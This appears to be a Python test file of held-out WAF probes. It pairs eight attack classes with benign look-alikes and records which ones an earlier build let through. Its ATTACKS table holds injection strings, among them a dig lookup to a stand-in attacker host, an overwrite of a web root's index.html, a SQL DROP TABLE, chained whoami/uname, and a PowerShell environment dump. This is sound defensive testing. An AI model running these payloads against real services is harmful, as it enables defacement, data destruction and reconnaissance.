"""WAF, part 2z28: held-out probes, fifty-first file (README: the
fifty-ninth round), written for this file on 2026-12-06. No string is
taken from a corpus or a public list: each class is written here in
shapes of our own, through the real edge (shipped config, bans off).

The classes the laundromat, petgrooming, recycling and rowingclub
corpora showed when first replayed (at ff0839a), and those the older
corpora's misses showed, an attack the round refuses and a look-alike
it passes:
- dig-plus-option: dig given its "+" options after a host and a pipe;
  "dig +deeper" in a sentence.
- echo-redirect: a word after a token's ";" whose output is redirected
  to an absolute path (the file it writes); the word with text only.
- output-option-name: an argument list whose long output option, named
  with an underscore, is given a path in a web root; a build file.
- bracketed-drop: a bracketed name closed, then DROP TABLE of a
  bracketed name and a comment; the words in a sentence.
- order-div-zero: a sort list's direction, then a division by zero (the
  error-based probe); a date after the direction.
- currency-placeholder: PHP's "$ {...}" given a variable; a currency
  sign before a template's placeholder.
- delimited-header: probes joined by ";" after a token; a one-line
  header of columns (one named "date") after a label that is a shell
  word, and a header naming "id" above rows of as many cells.
- env-drive-subexpression: PowerShell's Env: drive listed inside a
  subexpression in a file name; the words in a sentence.
Measured on ff0839a: 6 of the 8 attacks passed in every placement
(currency-placeholder's and delimited-header's were refused), and 2 of
the 9 look-alikes were refused (currency-placeholder's and the one-line
header).

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "dig-plus-option": ["mx1.example.net|dig +noall +answer x.attacker.example"],
    "echo-redirect": ["k2; echo hacked > /srv/shop/public/index.html"],
    "output-option-name": ["--output_file /srv/www/htdocs/a.bin"],
    "bracketed-drop": ["Q3]; DROP TABLE [Ledger];--"],
    "order-div-zero": ["title DESC, 1/0"],
    "currency-placeholder": ["x $ {$cmd}"],
    "delimited-header": ["lot7;whoami;uname"],
    "env-drive-subexpression": ["Lot_$(gci env:).txt"],
}

BENIGN = {
    "dig-plus-option": ["we dig +deeper into the archive"],
    "echo-redirect": ["tag7; echo the reply is later"],
    "output-option-name": ["--output_file ./a.bin"],
    "bracketed-drop": ["Reports: drop table [Ledger] next week"],
    "order-div-zero": ["title desc, 10/05"],
    "currency-placeholder": ["Total due: $ {amount} by Friday"],
    "delimited-header": ["Export columns: lot;date;weight;grade;bin",
                         "id;lot;weight\n7;A2;310\n8;B1;295"],
    "env-drive-subexpression": ["pick env: PROD from the dropdown (gci is our team)"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r51_attack_refused_everywhere,
 test_heldout_r51_benign_passes) = heldout_probe_tests(
    "r51", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
